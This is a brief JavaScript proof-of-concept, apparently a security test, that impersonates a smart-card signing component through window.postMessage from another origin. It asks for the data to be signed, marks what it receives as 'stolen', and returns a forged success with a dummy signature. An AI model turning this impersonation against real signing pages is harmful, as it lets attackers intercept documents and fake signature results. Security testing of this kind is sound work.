// A program on this computer that plays the component from where it is not: another origin, or a frame of the popup.
// It asks for the task, reports to the page's console whatever it is given, and answers with a success.
(() => {
  const target = window.opener ?? window.top.opener;
  if (!target) return;
  const say = (message) => target.postMessage(JSON.stringify(message), '*');
  window.addEventListener('message', (event) => {
    document.title = `stolen: ${event.data}`;
    say({ func: 'sign', ret_code: 0, last_error: 0, signature: 'AAAA' });
  });
  say({ func: 'getTbs' });
  for (const func of ['pkcs11info', 'sign', 'decrypt']) say({ func, ret_code: 0, last_error: 0, slots: [] });
})();
